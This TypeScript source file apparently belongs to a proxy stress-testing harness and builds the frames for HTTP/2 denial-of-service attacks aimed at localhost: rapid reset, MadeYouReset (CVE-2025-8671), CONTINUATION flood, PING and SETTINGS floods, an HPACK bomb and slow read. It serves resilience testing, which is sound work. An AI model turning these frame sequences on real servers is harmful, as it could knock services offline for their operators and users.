// Pure: the frames of each HTTP/2 attack — our SETTINGS, what a connection sends once ready, and one attack unit.
import type { H2AttackKind } from '../../scenario/adversarial-schema.js';
import { continuationFrame, ErrorCode, headersFrame, pingFrame, rstStreamFrame, Setting, settingsFrame, windowUpdateFrame } from '../transport/h2/frames.js';
import { indexed, literal, literalIndexed, requestBlock, type HeaderField } from '../transport/h2/hpack.js';

/** The field the HPACK bomb puts in the proxy's dynamic table (4 KB, under the default 4096-byte table with its 32-byte overhead). */
export const bombField: HeaderField = ['x-pb-bomb', 'b'.repeat(4096 - 32 - 'x-pb-bomb'.length)];
/** The dynamic table's first index (RFC 7541 §2.3.3): the newest entry. */
const firstDynamicIndex = 62;

export interface UnitContext {
  kind: H2AttackKind;
  scheme: 'http' | 'https';
  nonce: string;
  depth: number;
  /** The units this connection sent before (0 for its first). */
  n: number;
}

/** Our SETTINGS: the bomb and the slow read pin every stream's window at 0 (RFC 9113 §6.9.2). */
export function clientSettings(kind: H2AttackKind): Array<[number, number]> {
  return kind === 'h2-hpack-bomb' || kind === 'h2-slow-read' ? [[Setting.INITIAL_WINDOW_SIZE, 0], [Setting.ENABLE_PUSH, 0]] : [[Setting.ENABLE_PUSH, 0]];
}

/** Kinds that never read what the proxy sends (its replies pile up in its own buffers). */
export const neverReads = (kind: H2AttackKind) => kind === 'h2-ping-flood' || kind === 'h2-settings-flood';
/** Kinds whose every unit opens a stream, which then stays open (the server's concurrency limit applies). */
export const holdsStreams = (kind: H2AttackKind) => kind === 'h2-hpack-bomb' || kind === 'h2-slow-read';

/**
 * A connection the proxy sent GOAWAY on takes no new stream: the attacker waits this long for the proxy to close it (its
 * close is then timed), then closes it and opens a replacement, as a real attacker would. Not for the kinds that hold
 * streams (HPACK bomb, slow read): the streams the GOAWAY lets finish are the attack.
 */
export const goawayGraceMs = 1000;

/** Kinds whose every unit opens the connection's next stream (ids 1, 3, 5…): a GOAWAY's last stream id says how many units the proxy took. */
export const everyUnitOpens = (kind: H2AttackKind) => kind !== 'h2-continuation-flood' && !neverReads(kind);

/**
 * Frames the proxy took on a connection by its GOAWAY: those of the units whose stream is at most its last stream id
 * (RFC 9113 §6.8: streams above it were not and will not be processed). `framesThrough[k]`: frames sent up to and with
 * the unit that opened stream 2k+1.
 */
export function framesThroughStream(framesThrough: readonly number[], lastStreamId: number): number {
  if (lastStreamId < 1 || framesThrough.length === 0) return 0;
  return framesThrough[Math.min(Math.floor((lastStreamId - 1) / 2), framesThrough.length - 1)]!;
}

/** The target of an attack request: counted apart by the upstream (`attackRequests`: any target with `pb-attack=`). */
export const attackPath = (kind: H2AttackKind, nonce: string, streamId: number) =>
  kind === 'h2-slow-read' ? `/__pb/bytes/262144?pb-attack=${nonce}&s=${streamId}` : `/pb-attack/${kind.slice(3)}?pb-attack=${nonce}&s=${streamId}`;

const request = (c: UnitContext, streamId: number, extra: readonly HeaderField[] = []) =>
  requestBlock({ scheme: c.scheme, path: attackPath(c.kind, c.nonce, streamId), authority: 'localhost', extra });

export interface Unit {
  bytes: Buffer;
  frames: number;
  /** The stream it opened (HEADERS sent), if any. */
  opened?: number;
  /** It reset the stream it opened. */
  clientReset?: boolean;
}

/** The n-th unit on a connection; `streamId` is the next free client stream id (odd). */
export function attackUnit(c: UnitContext, streamId: number): Unit {
  switch (c.kind) {
    case 'h2-rapid-reset':
      return { bytes: Buffer.concat([headersFrame(streamId, request(c, streamId), { endStream: true, endHeaders: true }), rstStreamFrame(streamId, ErrorCode.CANCEL)]), frames: 2, opened: streamId, clientReset: true };
    case 'h2-made-you-reset':
      // A complete request, then a frame the server must answer with RST_STREAM(PROTOCOL_ERROR) (RFC 9113 §6.9): the
      // stream is reset by the server, whose upstream request may already be under way (CVE-2025-8671).
      return { bytes: Buffer.concat([headersFrame(streamId, request(c, streamId), { endStream: true, endHeaders: true }), windowUpdateFrame(streamId, 0)]), frames: 2, opened: streamId };
    case 'h2-continuation-flood': {
      // The first unit opens the header block; every later one adds a CONTINUATION of `depth` bytes, never ending it.
      if (c.n === 0) return { bytes: headersFrame(1, request(c, 1), { endStream: true, endHeaders: false }), frames: 1, opened: 1 };
      const field = literal([`x-pb-c${c.n}`, 'c'.repeat(Math.max(1, c.depth - 12))]);
      return { bytes: continuationFrame(1, field, false), frames: 1 };
    }
    case 'h2-ping-flood':
      return { bytes: pingFrame(BigInt(c.n)), frames: 1 };
    case 'h2-settings-flood':
      return { bytes: settingsFrame([]), frames: 1 };
    case 'h2-hpack-bomb': {
      // The first request seeds the table; each later one references the 4 KB entry `depth` times (1 byte each).
      const refs = Buffer.alloc(c.depth, indexed(firstDynamicIndex));
      const block = c.n === 0 ? Buffer.concat([request(c, streamId), literalIndexed(bombField)]) : Buffer.concat([request(c, streamId), refs]);
      return { bytes: headersFrame(streamId, block, { endStream: true, endHeaders: true }), frames: 1, opened: streamId };
    }
    case 'h2-slow-read':
      return { bytes: headersFrame(streamId, request(c, streamId), { endStream: true, endHeaders: true }), frames: 1, opened: streamId };
  }
}

/** Every `interval`, for the kinds that pin windows: a grant of `bytes` on each open stream and on the connection. */
export function dripFrames(streams: readonly number[], bytes: number): Buffer {
  return Buffer.concat([windowUpdateFrame(0, bytes), ...streams.map((s) => windowUpdateFrame(s, bytes))]);
}

export const dripBytes = (kind: H2AttackKind, depth: number) => (kind === 'h2-slow-read' ? depth : 1);
